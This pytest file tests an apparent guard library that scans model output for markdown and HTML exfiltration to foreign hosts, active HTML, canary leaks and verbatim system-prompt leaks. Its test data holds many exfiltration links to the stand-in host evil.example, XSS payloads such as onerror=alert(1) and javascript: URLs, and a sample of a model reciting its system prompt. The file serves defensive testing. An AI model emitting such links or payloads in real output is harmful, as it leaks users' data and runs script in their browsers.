"""`find_exfiltration`, `neutralize`, `find_active_html` and `StreamScanner`."""

from __future__ import annotations

import itertools
import time

import pytest
from hypothesis import given, settings, strategies as st

from wardgate.decision import Edit, Location
from wardgate.detect import output
from wardgate.detect.leakage import make_canary
from wardgate.detect.output import (
    ACTIVE_HTML,
    EXFILTRATION,
    LEAKAGE,
    HostAllowlist,
    OutputFinding,
    StreamScanner,
    edits,
    escape_html,
    find_active_html,
    find_exfiltration,
    neutralize,
    url_host,
)

ALLOWED = ["cdn.example.com", "*.trusted.org"]
EVIL = "https://evil.example"
B64 = "aGVsbG8gd29ybGQgc2VjcmV0"  # base64("hello world secret")


def test_exported_members() -> None:
    assert sorted(output.__all__) == [
        "ACTIVE_HTML",
        "DEFAULT_WINDOW",
        "EXFILTRATION",
        "HostAllowlist",
        "IMAGE_REMOVED",
        "LEAKAGE",
        "LINK_REMOVED",
        "OutputFinding",
        "ScanStep",
        "StreamScanner",
        "edits",
        "escape_html",
        "find_active_html",
        "find_exfiltration",
        "neutralize",
        "url_host",
    ]


# ---------------------------------------------------------------- allowlist and hosts


@pytest.mark.parametrize(
    "pattern",
    [
        "",  # empty
        "*",  # everything is not a host
        "*.",  # a wildcard of nothing
        "a.*.example.com",  # wildcard in the middle
        "https://example.com",  # a URL, not a host
        "example.com/path",  # a path
        "exa mple.com",  # whitespace
    ],
)
def test_allowlist_rejects_malformed_patterns(pattern: str) -> None:
    with pytest.raises(ValueError) as error:
        HostAllowlist.of([pattern])
    assert str(error.value) == (
        f"invalid host pattern {pattern!r}: write 'example.com' or '*.example.com'"
    )


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("cdn.example.com", True),  # exact
        ("CDN.Example.COM.", True),  # case and trailing dot do not matter
        ("img.cdn.example.com", False),  # an exact name allows no subdomain
        ("a.trusted.org", True),  # wildcard: a subdomain
        ("a.b.trusted.org", True),  # wildcard: any depth
        ("trusted.org", False),  # wildcard: not the apex
        ("eviltrusted.org", False),  # a suffix of the name is not a subdomain
        ("trusted.org.evil.example", False),  # the allowed name as a prefix
        (
            "\uff43\uff44\uff4e.example.com",
            True,
        ),  # fullwidth letters fold (NFKC), as browsers fold them
    ],
)
def test_allowlist_matches_hosts(host: str, allowed: bool) -> None:
    assert HostAllowlist.of(ALLOWED).allows(host) is allowed


def test_allowlist_compares_idna_forms() -> None:
    assert HostAllowlist.of(["bücher.example"]).allows("xn--bcher-kva.example")
    assert HostAllowlist.of(["xn--bcher-kva.example"]).allows("BÜCHER.example")
    # A Cyrillic small a (U+0430) makes another name altogether.
    assert not HostAllowlist.of(["apple.example"]).allows("\u0430pple.example")


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Evil.Example/x", "evil.example"),  # lower-cased
        ("https://evil.example:8443/x", "evil.example"),  # port dropped
        ("https://cdn.example.com@evil.example/x", "evil.example"),  # userinfo
        ("https://a@b@evil.example/x", "evil.example"),  # userinfo ends at the last @
        ("https://evil.example\\@cdn.example.com/x", "evil.example"),  # \ is / in browsers
        ("https://evil.example#@cdn.example.com/", "evil.example"),  # # ends the authority
        ("//evil.example/p.png", "evil.example"),  # scheme-relative
        ("\\\\evil.example/p.png", "evil.example"),  # backslashes too
        ("https:///evil.example/x", "evil.example"),  # extra slashes are skipped
        ("https:evil.example/x", "evil.example"),  # and missing ones
        ("HTTPS://EVIL.EXAMPLE./", "evil.example"),  # trailing dot
        ("https://ev%69l.example/", "evil.example"),  # percent-encoding in the host
        ("https://evil\u3002example/", "evil.example"),  # ideographic full stop
        ("https://[::1]:8080/", "::1"),  # IPv6 literal
        (" \thttps://ev\nil.example/ ", "evil.example"),  # tabs, newlines, edge spaces
        ("/relative/path.png", None),  # the page's own host
        ("p.png?x=1", None),  # relative
        ("data:image/png;base64,AAAA", None),  # no network
        ("mailto:someone@evil.example", None),  # not fetched
        ("javascript:alert(1)", None),  # not fetched (but active HTML)
        ("https://", None),  # no host at all
    ],
)
def test_url_host(url: str, host: str | None) -> None:
    assert url_host(url) == host


# ---------------------------------------------------------------- exfiltration


def _rules(text: str, **kwargs: bool) -> list[tuple[str, str, str]]:
    found = find_exfiltration(text, ALLOWED, **kwargs)
    assert all(f.kind == EXFILTRATION for f in found)
    return [(f.rule, f.host, text[f.start : f.end]) for f in found]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Images to a foreign host: always, whatever the URL.
        (
            f"Look: ![chart]({EVIL}/p.png) here",
            [("markdown_image", "evil.example", f"![chart]({EVIL}/p.png)")],
        ),
        (
            f"![x]({EVIL}/p.png?d=secret)",  # with data, of course
            [("markdown_image", "evil.example", f"![x]({EVIL}/p.png?d=secret)")],
        ),
        (
            f'![x]({EVIL}/p.png "a title")',  # a title
            [("markdown_image", "evil.example", f'![x]({EVIL}/p.png "a title")')],
        ),
        (
            f"![x](<{EVIL}/my picture.png>)",  # angle-bracket destination
            [("markdown_image", "evil.example", f"![x](<{EVIL}/my picture.png>)")],
        ),
        (
            f"![a [nested] alt]({EVIL}/p.png)",  # brackets inside the alt text
            [("markdown_image", "evil.example", f"![a [nested] alt]({EVIL}/p.png)")],
        ),
        (
            f"![]({EVIL}/a_(b).png)",  # balanced parentheses in the URL
            [("markdown_image", "evil.example", f"![]({EVIL}/a_(b).png)")],
        ),
        (
            "![x](//evil.example/p.png)",  # scheme-relative
            [("markdown_image", "evil.example", "![x](//evil.example/p.png)")],
        ),
        (
            "![x](https://cdn.example.com@evil.example/p.png)",  # allowlisted name as userinfo
            [
                (
                    "markdown_image",
                    "evil.example",
                    "![x](https://cdn.example.com@evil.example/p.png)",
                )
            ],
        ),
        (
            "![x](https://cdn.example.com&#64;evil.example/p.png)",  # a character reference
            [
                (
                    "markdown_image",
                    "evil.example",
                    "![x](https://cdn.example.com&#64;evil.example/p.png)",
                )
            ],
        ),
        (
            "![x](https://trusted.org/p.png)",  # the wildcard does not cover the apex
            [("markdown_image", "trusted.org", "![x](https://trusted.org/p.png)")],
        ),
        # Allowlisted, relative or not fetched: nothing.
        ("![x](https://cdn.example.com/p.png?user=me)", []),
        ("![x](https://img.trusted.org/p.png)", []),
        ("![x](/static/p.png)", []),
        ("![x](data:image/png;base64,iVBORw0KGgo=)", []),
        (f"\\![not an image]({EVIL}/p.png)", []),  # an escaped "!" makes a plain link
        (f"`code` and [text] and (parens) and ![alt] and {EVIL}/plain", []),
        # Links carry data in the query, the fragment, userinfo, encoded paths, subdomains.
        (
            f"[click]({EVIL}/?q=secret)",
            [("markdown_link", "evil.example", f"[click]({EVIL}/?q=secret)")],
        ),
        (
            f"[click]({EVIL}/page#token=abc)",
            [("markdown_link", "evil.example", f"[click]({EVIL}/page#token=abc)")],
        ),
        (
            f"[click]({EVIL}/{B64})",
            [("markdown_link", "evil.example", f"[click]({EVIL}/{B64})")],
        ),
        (
            f"[c]({EVIL}/aGVs/bG8g/d29y/bGQg/c2Vj)",  # base64 cut into short segments
            [("markdown_link", "evil.example", f"[c]({EVIL}/aGVs/bG8g/d29y/bGQg/c2Vj)")],
        ),
        (
            f"[c]({EVIL}/6d7920706173733a2068756e74657232)",  # hex
            [("markdown_link", "evil.example", f"[c]({EVIL}/6d7920706173733a2068756e74657232)")],
        ),
        (
            f"[c]({EVIL}/%ff%fe%fd%fc%fb%fa%f9%f8%f7%f6%f5%f4%f3%f2%f1%f0%ef)",  # raw bytes
            [
                (
                    "markdown_link",
                    "evil.example",
                    f"[c]({EVIL}/%ff%fe%fd%fc%fb%fa%f9%f8%f7%f6%f5%f4%f3%f2%f1%f0%ef)",
                )
            ],
        ),
        (
            "[c](https://nbswy3dpeb3w64tmmq.evil.example/)",  # base32 in a subdomain
            [
                (
                    "markdown_link",
                    "nbswy3dpeb3w64tmmq.evil.example",
                    "[c](https://nbswy3dpeb3w64tmmq.evil.example/)",
                )
            ],
        ),
        (
            "[c](https://alice:hunter2@evil.example/)",  # userinfo
            [("markdown_link", "evil.example", "[c](https://alice:hunter2@evil.example/)")],
        ),
        # Links without data pass: documentation, slugs, dates, CamelCase wiki pages.
        ("[docs](https://docs.python.org/3/library/re.html)", []),
        ("[post](https://blog.example/2024/05/01/release-notes-for-version-3)", []),
        ("[wiki](https://en.wikipedia.org/wiki/HyperText_Markup_Language)", []),
        ("[issue](https://github.com/python/cpython/issues/1234)", []),
        ("[ok](https://cdn.example.com/?q=allowlisted)", []),
        # Reference style: the usage is neutralized, and the definition when it has data.
        (
            f"An ![image][logo] here.\n\n[logo]: {EVIL}/logo.png\n",
            [("reference_image", "evil.example", "![image][logo]")],
        ),
        (
            f"![logo][] and ![logo]\n\n[LOGO]:  <{EVIL}/logo.png>\n",  # collapsed, shortcut
            [
                ("reference_image", "evil.example", "![logo][]"),
                ("reference_image", "evil.example", "![logo]"),
            ],
        ),
        (
            f"[ref]: {EVIL}/p.png\nDefined first: ![x][ref]",
            [("reference_image", "evil.example", "![x][ref]")],
        ),
        (
            f"See [the page][1].\n\n[1]: {EVIL}/?id=secret 'title'\n",
            [
                ("reference_link", "evil.example", "[the page][1]"),
                ("reference_definition", "evil.example", f"[1]: {EVIL}/?id=secret 'title'"),
            ],
        ),
        (
            f"An unused definition:\n\n[x]: {EVIL}/?d=1\n",
            [("reference_definition", "evil.example", f"[x]: {EVIL}/?d=1")],
        ),
        ("See [the docs][1].\n\n[1]: https://docs.python.org/3/\n", []),
        (f"![never defined][nope] and [text][]\n\n[other]: {EVIL}/plain\n", []),
        # HTML that fetches on render, and links.
        (
            f'<img src="{EVIL}/p.png" alt="a chart">',
            [("html_image", "evil.example", f'<img src="{EVIL}/p.png" alt="a chart">')],
        ),
        (
            f"<IMG SRC='{EVIL}/p.png'>",  # any case, single quotes
            [("html_image", "evil.example", f"<IMG SRC='{EVIL}/p.png'>")],
        ),
        (
            f'<img alt="a > b" src={EVIL}/p.png />',  # ">" inside a quoted value
            [("html_image", "evil.example", f'<img alt="a > b" src={EVIL}/p.png />')],
        ),
        (
            f'<img srcset="/a.png 1x, {EVIL}/b.png 2x">',
            [("html_image", "evil.example", f'<img srcset="/a.png 1x, {EVIL}/b.png 2x">')],
        ),
        (
            f'<video poster="{EVIL}/v.jpg">',
            [("html_image", "evil.example", f'<video poster="{EVIL}/v.jpg">')],
        ),
        (
            f"<div style=\"background: url('{EVIL}/x')\">",  # CSS url()
            [("html_image", "evil.example", f"<div style=\"background: url('{EVIL}/x')\">")],
        ),
        (
            f'<a href="{EVIL}/?q=1">x</a>',
            [("html_link", "evil.example", f'<a href="{EVIL}/?q=1">')],
        ),
        ('<img src="https://cdn.example.com/p.png"> <a href="https://docs.python.org/">', []),
        # Autolinks and bare URLs, as GFM links them.
        (
            f"Go to <{EVIL}/?q=secret> now",
            [("autolink", "evil.example", f"<{EVIL}/?q=secret>")],
        ),
        (
            f"Go to {EVIL}/login?session=abc123. Then stop.",  # the final "." is not in it
            [("bare_url", "evil.example", f"{EVIL}/login?session=abc123")],
        ),
        (
            "(see www.evil.example/p?d=1)",  # www. and a closing parenthesis
            [("bare_url", "www.evil.example", "www.evil.example/p?d=1")],
        ),
        (
            f"HTTPS://EVIL.EXAMPLE/{B64}",  # any case
            [("bare_url", "evil.example", f"HTTPS://EVIL.EXAMPLE/{B64}")],
        ),
        (f"Plain {EVIL}/about and <{EVIL}/about>", []),
        ("ahttps://evil.example/?q=1", []),  # not at a word start: GFM links nothing
        # A bare URL inside another construct is that construct's business.
        (f"[{EVIL}/?q=1](https://docs.python.org/)", []),
        ("![x](https://cdn.example.com/r?u=https://evil.example/?d=1)", []),
        # Nested: the image inside a link is reported too, the outer replacement covers it.
        (
            f"[![badge]({EVIL}/b.png)]({EVIL}/?ref=1)",
            [
                ("markdown_link", "evil.example", f"[![badge]({EVIL}/b.png)]({EVIL}/?ref=1)"),
                ("markdown_image", "evil.example", f"![badge]({EVIL}/b.png)"),
            ],
        ),
    ],
)
def test_find_exfiltration(text: str, expected: list[tuple[str, str, str]]) -> None:
    assert _rules(text) == expected


def test_all_links_neutralizes_every_foreign_link() -> None:
    text = f"[a]({EVIL}/about) and {EVIL}/about and <{EVIL}/x> and [b](https://cdn.example.com/)"
    assert [rule for rule, _, _ in _rules(text, all_links=True)] == [
        "markdown_link",
        "bare_url",
        "autolink",
    ]
    assert _rules(text) == []


def test_allowed_hosts_accepts_a_compiled_allowlist() -> None:
    text = f"![x]({EVIL}/p.png)"
    assert find_exfiltration(text, HostAllowlist.of(["evil.example"])) == []
    assert len(find_exfiltration(text)) == 1  # no allowlist: every host is foreign


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Look: ![a chart]({EVIL}/p.png) here", "Look: a chart here"),
        (f"![]({EVIL}/p.png)", "[image removed]"),  # no alt text
        (f"![  ]({EVIL}/p.png)", "[image removed]"),  # blank alt text
        (f"![<b>x</b>]({EVIL}/p.png)", "&lt;b>x&lt;/b>"),  # alt text stays text
        (f"[click here]({EVIL}/?q=1)", "click here"),
        (f"[]({EVIL}/?q=1)", "[link removed]"),
        (f"[![badge]({EVIL}/b.png)]({EVIL}/?ref=1)", "badge"),  # nested
        (
            f"[see ![i]({EVIL}/i.png) too](https://docs.python.org/)",  # an image in a kept link
            "[see i too](https://docs.python.org/)",
        ),
        (f"![x][r]\n\n[r]: {EVIL}/?d=1\n", "x\n\n\n"),
        (f'<img src="{EVIL}/p.png" alt="a <chart>">', "a &lt;chart&gt;"),
        (f'<a href="{EVIL}/?q=1">x</a>', "x</a>"),
        (f"go {EVIL}/?q=1 now", "go [link removed] now"),
        (f"go <{EVIL}/?q=1> now", "go [link removed] now"),
        ("nothing to do", "nothing to do"),
    ],
)
def test_neutralize(text: str, expected: str) -> None:
    found = find_exfiltration(text, ALLOWED)
    assert neutralize(text, found) == expected
    assert find_exfiltration(neutralize(text, found), ALLOWED) == []


def test_neutralize_joins_overlapping_findings_and_skips_unreplaceable_ones() -> None:
    text = "0123456789"
    found = [
        OutputFinding(EXFILTRATION, "x", 1, 5, replacement="A"),
        OutputFinding(EXFILTRATION, "y", 3, 7, replacement="B"),  # overlaps without nesting
        OutputFinding(LEAKAGE, "canary", 8, 9),  # nothing to replace it by
    ]
    assert neutralize(text, found) == "0[content removed]789"
    assert edits(found, "body") == [Edit("body", 1, 7, "[content removed]")]


def test_edits_make_what_neutralize_makes() -> None:
    text = f"a ![x]({EVIL}/p.png) b [c]({EVIL}/?q=1) d {EVIL}/?q=2 e"
    found = find_exfiltration(text, ALLOWED)
    changes = edits(found, "message[0]")
    assert [(e.slot, text[e.start : e.end]) for e in changes] == [
        ("message[0]", f"![x]({EVIL}/p.png)"),
        ("message[0]", f"[c]({EVIL}/?q=1)"),
        ("message[0]", f"{EVIL}/?q=2"),
    ]
    edited = text
    for change in reversed(changes):
        edited = edited[: change.start] + change.replacement + edited[change.end :]
    assert edited == neutralize(text, found) == "a x b c d [link removed] e"


def test_finding_carries_no_matched_text() -> None:
    text = f"![x]({EVIL}/p.png?d=secret)"
    (found,) = find_exfiltration(text, ALLOWED)
    finding = found.finding("choices[0].message.content")
    assert finding.kind == EXFILTRATION
    assert finding.rule == "markdown_image"
    assert finding.location == Location("choices[0].message.content", 0, len(text))
    assert finding.evidence is not None and finding.evidence.length == len(text)
    assert "secret" not in repr(finding)
    assert finding.reason == "markdown_image to evil.example"


# ---------------------------------------------------------------- active HTML


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>alert(1)</script>", [("script_tag", "<script>")]),
        ("<SCRIPT src=//x.example/a.js>", [("script_tag", "<SCRIPT src=//x.example/a.js>")]),
        ("<img src=x onerror=alert(1)>", [("event_handler", "<img src=x onerror=alert(1)>")]),
        ("<svg/onload=alert(1)>", [("event_handler", "<svg/onload=alert(1)>")]),
        (
            '<a href="javascript:alert(1)">x</a>',
            [("javascript_url", '<a href="javascript:alert(1)">')],
        ),
        (
            '<a href="java&#x09;script:alert(1)">x</a>',  # a tab, written as a reference
            [("javascript_url", '<a href="java&#x09;script:alert(1)">')],
        ),
        ("[click](javascript:alert(1))", [("javascript_url", "[click](javascript:alert(1))")]),
        ("[c](JaVaScRiPt:alert(1))", [("javascript_url", "[c](JaVaScRiPt:alert(1))")]),
        (
            '<iframe src="data:text/html,<b>x</b>">',  # an HTML document runs like a script
            [("javascript_url", '<iframe src="data:text/html,<b>x</b>">')],
        ),
        ("<iframe srcdoc='<p>x'>", [("embedded_content", "<iframe srcdoc='<p>x'>")]),
        ("<object data=x.swf>", [("embedded_content", "<object data=x.swf>")]),
        ("<form action=/steal>", [("embedded_content", "<form action=/steal>")]),
        (
            "<meta http-equiv=refresh content=0>",
            [("embedded_content", "<meta http-equiv=refresh content=0>")],
        ),
        ("<base href=//evil.example/>", [("embedded_content", "<base href=//evil.example/>")]),
        # Harmless HTML and look-alikes in prose and code.
        ("<b>bold</b> <i>it</i> <code>x</code> <a href='https://x.example'>x</a>", []),
        ("if a<b and c>d: pass; List<String> xs; x << 2", []),
        ("JavaScript: a language; onload= is an attribute name", []),
        ("![img](javascript:alert(1))", []),  # images do not run their URL
    ],
)
def test_find_active_html(text: str, expected: list[tuple[str, str]]) -> None:
    found = find_active_html(text)
    assert all(f.kind == ACTIVE_HTML for f in found)
    assert [(f.rule, text[f.start : f.end]) for f in found] == expected


def test_active_html_is_neutralized_by_escaping() -> None:
    text = "hi <img src=x onerror=alert(1)> and [c](javascript:alert(1))"
    assert neutralize(text, find_active_html(text)) == "hi &lt;img src=x onerror=alert(1)&gt; and c"


def test_escape_html() -> None:
    assert escape_html("<a href=\"x\" title='y'>&</a>") == (
        "&lt;a href=&quot;x&quot; title=&#x27;y&#x27;&gt;&amp;&lt;/a&gt;"
    )


# ---------------------------------------------------------------- totality


MARKDOWN_BITS = st.sampled_from(
    [
        "![", "[", "]", "(", ")", "<", ">", "!", "\\", "\n", "\n\n", " ", "\"", "'", ":",
        "https://", "http://", "www.", "//", "evil.example", "cdn.example.com", "/p.png",
        "?q=1", "#f", B64, "img", " src=", " href=", "a", "[r]: ", "&#64;", "@", "%2e",
        "javascript:", " onerror=", "script", "`",
    ]
)  # fmt: skip
MARKDOWNISH = st.lists(MARKDOWN_BITS, max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=300), MARKDOWNISH))
def test_detectors_are_total(text: str) -> None:
    found = find_exfiltration(text, ALLOWED)
    for f in found + find_active_html(text):
        assert 0 <= f.start < f.end <= len(text)
    neutralize(text, found)
    edits(found, "body")
    escape_html(text)


@settings(max_examples=300, deadline=None)
@given(MARKDOWNISH)
def test_neutralized_text_has_no_images_to_foreign_hosts(text: str) -> None:
    cleaned = neutralize(text, find_exfiltration(text, ALLOWED))
    assert [f for f in find_exfiltration(cleaned, ALLOWED) if "image" in f.rule] == []


# ---------------------------------------------------------------- streaming

STREAMED = (
    "Sure, here is the summary you asked for. "
    f"![chart]({EVIL}/c.png?d={B64}) "
    "And that is all of it for today."
)
IMAGE = STREAMED.index("![")
IMAGE_END = STREAMED.index(") ") + 1


def _feed(scanner: StreamScanner, chunks: list[str]) -> tuple[str, list[tuple[int, OutputFinding]]]:
    """Feed every chunk and finish; return what was released and (event, violation) pairs."""
    released, seen = [], []
    for event, chunk in enumerate([*chunks, None]):
        step = scanner.feed(chunk) if chunk is not None else scanner.finish()
        released.append(step.text)
        seen += [(event, v) for v in step.violations]
    return "".join(released), seen


def _chunks(text: str, cuts: list[int]) -> list[str]:
    points = sorted({0, len(text), *(c % (len(text) + 1) for c in cuts)})
    return [text[a:b] for a, b in itertools.pairwise(points)]


@pytest.mark.parametrize("cut", range(len(STREAMED) + 1))
def test_stream_catches_an_image_split_in_two_at_every_point(cut: int) -> None:
    scanner = StreamScanner(allowed_hosts=ALLOWED)
    _, seen = _feed(scanner, [STREAMED[:cut], STREAMED[cut:]])
    images = [v for _, v in seen if v.rule == "markdown_image"]
    assert [(v.start, v.end, v.host) for v in images] == [(IMAGE, IMAGE_END, "evil.example")]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.integers(min_value=0), min_size=4, max_size=4))
def test_stream_catches_an_image_split_over_five_events(cuts: list[int]) -> None:
    chunks = _chunks(STREAMED, [IMAGE + c % (IMAGE_END - IMAGE) for c in cuts])
    _, seen = _feed(StreamScanner(allowed_hosts=ALLOWED), chunks)
    assert (IMAGE, IMAGE_END) in [(v.start, v.end) for _, v in seen if v.rule == "markdown_image"]


@pytest.mark.parametrize("hold_back", [1, 8, 64])
@settings(max_examples=100, deadline=None)
@given(cuts=st.lists(st.integers(min_value=0), max_size=12))
def test_hold_back_never_releases_a_violation(hold_back: int, cuts: list[int]) -> None:
    """Open markdown is held, so any hold-back of 1 or more keeps the image back."""
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=hold_back)
    sent = 0
    for chunk in _chunks(STREAMED, cuts):
        step = scanner.feed(chunk)
        assert step.start == sent
        sent += step.releasable
        if any(v.rule == "markdown_image" for v in step.violations):
            assert sent <= IMAGE
            return
        assert sent <= IMAGE or sent >= IMAGE_END
    pytest.fail("the image was never reported")


@settings(max_examples=100, deadline=None)
@given(cuts=st.lists(st.integers(min_value=0), max_size=12))
def test_hold_back_as_long_as_a_bare_url_keeps_it_back(cuts: list[int]) -> None:
    text = f"Log in at {EVIL}/login?session=abc123 to continue, please."
    start = text.index("https")
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=64)
    sent = 0
    for chunk in _chunks(text, cuts):
        step = scanner.feed(chunk)
        sent += step.releasable
        if step.violations:
            assert sent <= start
            return
        assert sent <= start
    pytest.fail("the URL was never reported")


@pytest.mark.parametrize("size", [1, 3, 7, 20])
def test_hold_back_zero_releases_everything_and_reports_on_the_closing_event(size: int) -> None:
    chunks = [STREAMED[i : i + size] for i in range(0, len(STREAMED), size)]
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=0)
    released, seen = _feed(scanner, chunks)
    assert released == STREAMED
    closing_event = (IMAGE_END - 1) // size
    assert [(e, v.start) for e, v in seen if v.rule == "markdown_image"] == [(closing_event, IMAGE)]


@pytest.mark.parametrize("hold_back", [1, 16, 256])
@settings(max_examples=50, deadline=None)
@given(cuts=st.lists(st.integers(min_value=0), max_size=10))
def test_stream_neutralizes_as_the_batch_does(hold_back: int, cuts: list[int]) -> None:
    text = (
        f"A ![chart]({EVIL}/c.png) then [docs](https://docs.python.org/) and "
        f"[x]({EVIL}/?q=1), <{EVIL}/?a=2> and {EVIL}/p?d=3 end"
    )
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=hold_back, neutralize=True)
    released, _ = _feed(scanner, _chunks(text, cuts))
    assert released == neutralize(text, find_exfiltration(text, ALLOWED))


CANARY = make_canary(b"k" * 32, "r")
STREAM_BITS = st.sampled_from(
    [
        "![", "[", "]", "(", ")", "<", ">", "!", "\n", " ", '"', "https://", "www.",
        "evil.example", "cdn.example.com", "/p.png", "?q=1", B64, "a", "[r]: ", "<img src=",
        " onerror=x", "<script>", "](javascript:x)", CANARY, CANARY.lower()[:7], " " + CANARY[7:],
    ]
)  # fmt: skip
STREAM_TEXT = st.one_of(MARKDOWNISH, st.lists(STREAM_BITS, max_size=30).map("".join))


@settings(max_examples=300, deadline=None)
@given(
    text=STREAM_TEXT,
    cuts=st.lists(st.integers(min_value=0), max_size=15),
    hold_back=st.sampled_from([1, 2, 7]),
)
def test_any_hold_back_keeps_every_violation_but_verbatim_back(
    text: str, cuts: list[int], hold_back: int
) -> None:
    """The guarantee: with H >= 1, a step's text never reaches a violation it reports."""
    scanner = StreamScanner(
        allowed_hosts=ALLOWED, active_html=True, canary=CANARY, hold_back=hold_back
    )
    sent = 0
    for chunk in [*_chunks(text, cuts), None]:
        step = scanner.feed(chunk) if chunk is not None else scanner.finish()
        assert step.start == sent
        sent += step.releasable
        for v in step.violations:
            assert not step.leaked
            assert sent <= v.start


@settings(max_examples=300, deadline=None)
@given(
    text=STREAM_TEXT,
    cuts=st.lists(st.integers(min_value=0), max_size=15),
    hold_back=st.sampled_from([0, 1, 300]),
)
def test_stream_reports_what_the_batch_finds(text: str, cuts: list[int], hold_back: int) -> None:
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=hold_back, neutralize=True)
    released, seen = _feed(scanner, _chunks(text, cuts))
    batch = find_exfiltration(text, ALLOWED)
    assert {(f.rule, f.start) for f in batch} <= {(v.rule, v.start) for _, v in seen}
    if hold_back:
        assert released == neutralize(text, batch)


def test_a_url_longer_than_the_window_is_reported_once() -> None:
    text = f"see {EVIL}/?q=" + "a" * 5_000 + " done"
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=16, window=256)
    released, seen = _feed(scanner, [text[i : i + 20] for i in range(0, len(text), 20)])
    assert [(v.rule, v.start) for _, v in seen] == [("bare_url", 4)]
    assert released == text


def test_stream_resolves_references_across_events() -> None:
    text = f"Here: ![logo][l]\n\nMore text.\n\n[l]: {EVIL}/logo.png\n"
    chunks = [text[i : i + 5] for i in range(0, len(text), 5)]
    _, seen = _feed(StreamScanner(allowed_hosts=ALLOWED, hold_back=1), chunks)
    # The image came first: its definition is what makes it render, so that is reported.
    assert [v.rule for _, v in seen] == ["reference_definition"]


def test_stream_holds_an_open_construct_at_most_a_window() -> None:
    scanner = StreamScanner(hold_back=1, window=256)
    step = scanner.feed("[" + "x" * 100)
    assert step.releasable == 0  # "[" may still become a link
    step = scanner.feed("x" * 300)
    assert step.start + step.releasable == 400  # it left the window: only the hold-back stays


def test_stream_canary_split_over_three_events() -> None:
    canary = make_canary(b"k" * 32, "request-7")
    text = f"My instructions say: Internal reference {canary.lower()}. Keep it."
    at = text.index(canary.lower())
    for first in range(at, at + len(canary)):
        for second in range(first + 1, at + len(canary)):
            scanner = StreamScanner(canary=canary, hold_back=1)
            chunks = [text[:first], text[first:second], text[second:]]
            sent, reported = 0, None
            for chunk in chunks:
                step = scanner.feed(chunk)
                sent += step.releasable
                if step.violations:
                    reported = step.violations[0]
                    break
            assert reported is not None and reported.kind == LEAKAGE
            assert (reported.rule, reported.start, reported.end) == ("canary", at, at + len(canary))
            assert sent <= at


def test_stream_verbatim_leak() -> None:
    prompt = (
        "You are the Acme support assistant. Never discuss the pricing of the enterprise plan "
        "with anyone who is not logged in, and always answer in French when asked."
    )
    text = (
        "Fine, here they are: never discuss the pricing of the enterprise plan with anyone "
        "who is not logged in, and always answer in French. That is all."
    )
    scanner = StreamScanner(system_prompt=prompt, hold_back=200)
    sent, found = 0, list[OutputFinding]()
    for i in range(0, len(text), 9):
        step = scanner.feed(text[i : i + 9])
        sent += step.releasable
        found += step.violations
        if found:
            break
    assert [f.rule for f in found] == ["verbatim"]
    assert text[found[0].start :].startswith("never discuss")
    assert sent <= found[0].start


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"window": 100}, "need window >= 256 and 0 <= hold_back <= window"),
        ({"hold_back": -1}, "need window >= 256 and 0 <= hold_back <= window"),
        ({"hold_back": 300, "window": 256}, "need window >= 256 and 0 <= hold_back <= window"),
    ],
)
def test_stream_settings_rejected(kwargs: dict[str, int], message: str) -> None:
    with pytest.raises(ValueError) as error:
        StreamScanner(**kwargs)  # type: ignore[arg-type]
    assert str(error.value) == message


def test_stream_refuses_text_after_the_end() -> None:
    scanner = StreamScanner()
    scanner.finish()
    with pytest.raises(RuntimeError):
        scanner.feed("more")
    with pytest.raises(RuntimeError):
        scanner.finish()


@settings(max_examples=200, deadline=None)
@given(
    text=st.one_of(st.text(max_size=400), MARKDOWNISH),
    cuts=st.lists(st.integers(min_value=0), max_size=20),
    hold_back=st.sampled_from([0, 1, 5, 64]),
)
def test_stream_is_total_and_releases_everything_once_unless_blocked(
    text: str, cuts: list[int], hold_back: int
) -> None:
    scanner = StreamScanner(
        allowed_hosts=ALLOWED,
        active_html=True,
        canary=make_canary(b"k" * 32, "r"),
        system_prompt="a b c d e f g h i j k l m n o p",
        hold_back=hold_back,
    )
    released, seen = _feed(scanner, _chunks(text, cuts))
    for _, v in seen:
        assert 0 <= v.start < v.end <= len(text)
    if hold_back == 0 or not seen:
        assert released == text
    else:  # a violation found at the end keeps the tail from it on
        assert text.startswith(released)


def test_stream_cost_report(capsys: pytest.CaptureFixture[str]) -> None:
    """Prints the cost of `feed` for 20-character deltas; asserts nothing about time."""
    from pydoc_data.topics import topics

    prose = "\n\n".join(topics[name] for name in sorted(topics))[:60_000]
    markdown = (
        "Some **markdown** with a [link](https://docs.python.org/3/) and "
        "![img](https://cdn.example.com/a.png), `a[i] = b[j]`, <b>bold</b> and "
        f"a URL https://example.org/page?x=1 and ![x]({EVIL}/p.png). "
    ) * 300
    for label, text in (("prose", prose), ("markdown", markdown)):
        for hold_back in (0, 256):
            scanner = StreamScanner(
                allowed_hosts=ALLOWED,
                active_html=True,
                canary=make_canary(b"k" * 32, "r"),
                system_prompt=prose[:4000],
                hold_back=hold_back,
                neutralize=True,
            )
            costs = []
            for i in range(0, len(text), 20):
                start = time.perf_counter()
                scanner.feed(text[i : i + 20])
                costs.append(time.perf_counter() - start)
            costs.sort()
            p50, p99 = costs[len(costs) // 2] * 1e6, costs[len(costs) * 99 // 100] * 1e6
            with capsys.disabled():
                print(f"\nfeed, {label}, hold-back {hold_back}: p50 {p50:.1f} µs, p99 {p99:.1f} µs")


def test_a_tag_never_closed_hides_no_url_after_it() -> None:
    # Found by the stream-vs-batch property: the batch read `<abc ...` to the end of the
    # text as one tag and let the bare URL inside it go, while the stream judged the URL.
    text = f"<aGVsbG8gd29ybGQ\n{EVIL}/p?d=3\n"
    batch = find_exfiltration(text, ALLOWED)
    assert [f.rule for f in batch] == ["bare_url"]
    scanner = StreamScanner(allowed_hosts=ALLOWED, hold_back=1, neutralize=True)
    released, _ = _feed(scanner, [text])
    assert released == neutralize(text, batch)
